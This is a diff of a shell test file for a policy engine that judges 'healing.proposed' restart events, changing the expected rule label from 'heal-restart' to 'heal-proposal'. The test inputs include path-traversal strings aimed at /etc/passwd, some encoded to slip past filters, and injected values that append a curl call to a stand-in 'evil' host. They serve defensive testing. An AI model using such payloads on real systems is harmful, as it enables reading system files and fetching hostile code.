@@ -140,15 +140,15 @@ verdicts() {
 {"id":"path-traversal-slash","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"..\/..\/etc\/passwd"}}
 {"id":"path-traversal-u","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\u002e\u002e/\u002E\u002E/etc/passwd"}}
 {"id":"path-traversal-pair","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\ud83d\udcc1../../etc/passwd"}}'
-	[ "$(verdicts)" = '["path-traversal-plain","allow",["heal-restart"],"medium"]
-["path-traversal-n","allow",["heal-restart"],"medium"]
-["path-traversal-t","allow",["heal-restart"],"medium"]
-["path-traversal-r","allow",["heal-restart"],"medium"]
-["path-traversal-quote","allow",["heal-restart"],"medium"]
-["path-traversal-backslash","allow",["heal-restart"],"medium"]
-["path-traversal-slash","allow",["heal-restart"],"medium"]
-["path-traversal-u","allow",["heal-restart"],"medium"]
-["path-traversal-pair","allow",["heal-restart"],"medium"]' ]
+	[ "$(verdicts)" = '["path-traversal-plain","allow",["heal-proposal"],"medium"]
+["path-traversal-n","allow",["heal-proposal"],"medium"]
+["path-traversal-t","allow",["heal-proposal"],"medium"]
+["path-traversal-r","allow",["heal-proposal"],"medium"]
+["path-traversal-quote","allow",["heal-proposal"],"medium"]
+["path-traversal-backslash","allow",["heal-proposal"],"medium"]
+["path-traversal-slash","allow",["heal-proposal"],"medium"]
+["path-traversal-u","allow",["heal-proposal"],"medium"]
+["path-traversal-pair","allow",["heal-proposal"],"medium"]' ]
 	[ "$stderr" = "9 events, 9 allowed, 0 warned, 0 review, 0 denied, 0 errors" ]
 }
 
@@ -158,10 +158,10 @@ verdicts() {
 {"id":"outside","type":"healing.proposed","actor":"avn","note":"api;\ncurl x","data":{"action":"restart"}}
 {"id":"no-marker","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"api\ncurl http://evil/x"}}
 {"id":"key-name","type":"healing.proposed","actor":"avn","data":{"action":"restart","\u002e\u002e/../":1}}'
-	[ "$(verdicts)" = '["two","allow",["heal-restart"],"low"]
-["two-esc","allow",["heal-restart"],"low"]
-["outside","allow",["heal-restart"],"low"]
-["no-marker","allow",["heal-restart"],"low"]
-["key-name","allow",["heal-restart"],"medium"]' ]
+	[ "$(verdicts)" = '["two","allow",["heal-proposal"],"low"]
+["two-esc","allow",["heal-proposal"],"low"]
+["outside","allow",["heal-proposal"],"low"]
+["no-marker","allow",["heal-proposal"],"low"]
+["key-name","allow",["heal-proposal"],"medium"]' ]
 	[ "$stderr" = "5 events, 5 allowed, 0 warned, 0 review, 0 denied, 0 errors" ]
 }
